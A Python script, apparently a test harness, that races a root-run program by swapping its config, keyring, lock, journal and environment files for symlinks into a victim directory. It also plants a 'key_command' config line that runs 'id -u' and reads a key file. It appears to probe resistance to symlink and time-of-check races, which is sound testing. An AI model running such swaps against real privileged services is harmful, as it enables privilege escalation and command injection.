# Exchanges, as fast as it can, everything that root is pointed at. Ends when the file `stop` is
# there, with all back. Arguments: the place, and a directory of root's to which links are made.
import os, sys, random, itertools
place, victim = sys.argv[1], sys.argv[2]
os.chdir(place)
good = open('data/strongroom.conf').read()
header = open('data/strongroom.header', 'rb').read()
ring = open('ring', 'rb').read()
plant = 'key_command = id -u >> %s/who; cat %s/key\n' % (place, place)
def put(path, data):
    temp = path + '.new%d' % random.randrange(1 << 30)
    with open(temp, 'wb') as file: file.write(data if isinstance(data, bytes) else data.encode())
    os.chmod(temp, 0o600)
    os.rename(temp, path)
def link(path, target):
    temp = path + '.lnk%d' % random.randrange(1 << 30)
    os.symlink(target, temp)
    os.rename(temp, path)
def aside(path, target):
    os.rename(path, path + '.aside')
    try: os.symlink(target, path)
    finally:
        for _ in range(random.randrange(2000)): pass
        try: os.unlink(path)
        except OSError: pass
        os.rename(path + '.aside', path)
def clear(directory):
    for name in os.listdir(directory):
        if name.startswith('.strongroom') or name.startswith('.environment'):
            temp = os.path.join(directory, name)
            try:
                os.unlink(temp); os.symlink(victim + '/file', temp)
            except OSError: pass
moves = [
    lambda: put('data/strongroom.conf', plant),
    lambda: put('data/strongroom.conf', good),
    lambda: link('data/strongroom.conf', victim + '/file'),
    lambda: link('data/strongroom.conf', victim + '/strongroom.conf'),
    lambda: link('data/strongroom.header', victim + '/file'),
    lambda: put('data/strongroom.header', header),
    lambda: link('data/strongroom.convert', victim + '/new'),
    lambda: os.unlink('data/strongroom.convert'),
    lambda: link('ring', victim + '/file'),
    lambda: put('ring', ring),
    lambda: link('ring.lock', victim + '/new'),
    lambda: os.unlink('ring.lock'),
    lambda: link('sealed.db-journal', victim + '/new'),
    lambda: os.unlink('sealed.db-journal'),
    lambda: link('etc/15/main/environment', victim + '/file'),
    lambda: link('etc/15/main/environment', victim + '/new'),
    lambda: put('etc/15/main/environment', '# mine\n'),
    lambda: aside('etc/15/main', victim),
    lambda: aside('etc/15', victim),
    lambda: aside('data', victim),
    lambda: aside('data', victim + '/instance'),
    lambda: clear('data'),
    lambda: clear('etc/15/main'),
]
count = 0
while not os.path.exists('stop'):
    try: random.choice(moves)()
    except OSError: pass
    count += 1
open('count', 'w').write(str(count))
